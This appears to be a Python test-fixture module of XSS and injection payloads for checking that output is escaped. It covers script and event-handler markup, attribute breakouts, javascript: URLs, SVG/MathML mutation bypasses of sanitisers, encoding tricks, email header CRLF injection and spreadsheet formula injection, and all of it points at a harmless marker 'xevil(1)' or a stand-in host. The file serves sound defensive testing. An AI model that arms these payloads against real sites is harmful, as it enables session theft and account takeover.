"""Texts that run a script, or become markup, where somebody forgot to escape them. Each bears `MARK`, so that what came of it is found.

The classes are those of the OWASP cheat sheet on filter evasion and of the published bypasses of sanitisers. None of them does any
harm: what they would run is a function that takes notes.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Final

MARK: Final = "xevil"
RUN: Final = f"{MARK}(1)"
"""The call that must never happen."""

ELEMENTS: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    f"<script src=//{MARK}.example/></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<{MARK}>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<base href=//{MARK}.example/>",
    f"<link rel=stylesheet href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action=//{MARK}.example/><input name={MARK}><button>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<xss-{MARK} tabindex=1 onfocus={RUN} autofocus>",
    f"<div id={MARK} class={MARK}>",
)
HANDLERS: Final = (
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    f"<a onmouseover={RUN}>{MARK}</a>",
    f"<img src=x onerror\x0c=\x0c{RUN}>",
    f"<style>@keyframes {MARK}{{}}</style><b style=animation-name:{MARK} onanimationstart={RUN}>",
)
ATTRIBUTES: Final = (
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` autofocus onfocus={RUN} x=`",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'\\"><svg onload={RUN}>',
    f"&quot; onclick={RUN} &quot;",
    f'x" {MARK}="1',
)
ADDRESSES: Final = (
    f"<a href=javascript:{RUN}>{MARK}</a>",
    f"<a href='java&#10;script:{RUN}'>{MARK}</a>",
    f"<a href='&#x6A;avascript&colon;{RUN}'>{MARK}</a>",
    f"<a href='\x01javascript:{RUN}'>{MARK}</a>",
    f"<a href='jav\tascript:{RUN}'>{MARK}</a>",
    f"<a href='vbscript:{RUN}'>{MARK}</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>{MARK}</a>",
    f"<a href='//{MARK}.example' target=_blank ping=//{MARK}.example>{MARK}</a>",
    f'<a linktype="page" id="1&quot; onclick={RUN} ">{MARK}</a>',
    f'<a linktype="document" id="{MARK}">{MARK}</a>',
    f'<embed embedtype="image" id="1" alt="&quot;onerror={RUN}" format="left"/>',
    f'<embed embedtype="image" id="{MARK}" format="{MARK}"/>',
    f'<embed embedtype="media" url="javascript:{RUN}"/>',
)
FOREIGN: Final = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>{MARK}</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<math href=javascript:{RUN}>{MARK}</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
)
MUTATIONS: Final = (
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml {MARK}?><img src=x onerror={RUN}>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
)
BREAKOUTS: Final = (
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'","x":"</script><script>{RUN}</script>',
    f"<!--<script>{RUN}",
    f"';{RUN};'",
    f"\u2028{RUN}\u2029",
    f"${{{RUN}}}{{{{{RUN}}}}}",
    f"{{% load {MARK} %}}{{{{ {MARK} }}}}",
    f"%({MARK})s {{{MARK}}} {{0.{MARK}}}",
)
ENCODINGS: Final = (
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\ufeff<script>{RUN}</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\u202e<img src=x onerror={RUN}>\u2066",
    f"<img src=x\u00a0onerror={RUN}>",
)
STYLES: Final = (
    f"<p style='background:url(//{MARK}.example)'>",
    f"<style>@import '//{MARK}.example';</style>",
    f"red;}}</style><img src=x onerror={RUN}>",
    f"<p style='position:fixed;inset:0'>{MARK}",
)
HEADERS: Final = (
    f"\r\nX-{MARK}: 1",
    f"\nBcc: {MARK}@{MARK}.example",
    f"\r\n\r\n<script>{RUN}</script>",
    f"=?utf-8?q?=0d=0aX-{MARK}:=201?=",
)
FORMULAS: Final = (f'=HYPERLINK("//{MARK}.example")', f"+{MARK}", f"-{MARK}", f"@{MARK}", f"\t={MARK}", f"\r={MARK}")

PAYLOADS: Final = (
    *(*ELEMENTS, *HANDLERS, *ATTRIBUTES, *ADDRESSES, *FOREIGN, *MUTATIONS, *BREAKOUTS),
    *(*ENCODINGS, *STYLES, *HEADERS, *FORMULAS),
)


def as_many_as_fit(payloads: Sequence[str], room: int) -> str:
    """Whole payloads, as many of the first ones as have room beside each other; never nothing."""
    fitting, left = [], room
    for payload in payloads:
        if len(payload) + 1 <= left:
            fitting.append(payload)
            left -= len(payload) + 1
    return " ".join(fitting) or MARK


def handfuls(payloads: Sequence[str], room: int = 190) -> Iterator[tuple[str, ...]]:
    """In groups that have room beside each other."""
    group: list[str] = []
    for payload in payloads:
        if sum(map(len, (*group, payload))) + len(group) + 1 > room:
            yield tuple(group)
            group = []
        group.append(payload)
    yield tuple(group)
